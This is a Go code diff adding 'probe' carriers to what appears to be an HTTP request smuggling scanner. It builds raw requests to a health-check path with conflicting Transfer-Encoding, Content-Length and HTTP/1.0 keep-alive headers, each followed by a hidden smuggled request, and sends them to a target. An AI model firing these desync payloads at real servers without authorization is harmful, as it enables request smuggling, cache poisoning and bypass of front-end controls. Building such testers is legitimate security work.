@@ -102,6 +102,21 @@ func carriers(s *sketch) []carrier {
 	return list
 }
 
+// probes are carriers that need no signature: what load balancers ask over HTTPS.
+func probes() []carrier {
+	const path, te = "GET /healthz/ready ", "Transfer-Encoding: chunked\r\n"
+	var list []carrier
+	for name, head := range map[string]string{
+		"a probe, TE":                      path + "HTTP/1.1\r\nHost: localhost\r\n" + te,
+		"a probe, CL and TE":               path + "HTTP/1.1\r\nHost: localhost\r\nContent-Length: 5\r\n" + te,
+		"a probe, HTTP/1.0 kept alive, TE": path + "HTTP/1.0\r\nConnection: keep-alive\r\n" + te,
+		"a probe, HTTP/1.0 kept alive, CL": path + "HTTP/1.0\r\nConnection: keep-alive\r\nContent-Length: 5\r\n",
+	} {
+		list = append(list, carrier{name: name, bytes: []byte(head + "\r\n0\r\n\r\n" + hidden), legal: true})
+	}
+	return list
+}
+
 func (c carrier) legally() carrier { c.legal = true; return c }
 
 // smuggling sends every carrier for every operation, whole and cut in two at every place where a
@@ -118,6 +133,10 @@ func smuggling(ctx context.Context, t *target, n *tally) error {
 			replies, err := t.askAlone(c.bytes, t.seconds(0.3, 0.15))
 			n.judgeCarrier(c, replies, err)
 		})
+	}
+	for _, c := range probes() {
+		replies, err := t.askAlone(c.bytes, t.seconds(0.3, 0.15))
+		n.judgeCarrier(c, replies, err)
 	}
 	if ctx.Err() != nil {
 		return fmt.Errorf("not all carriers were sent: %w", ctx.Err())
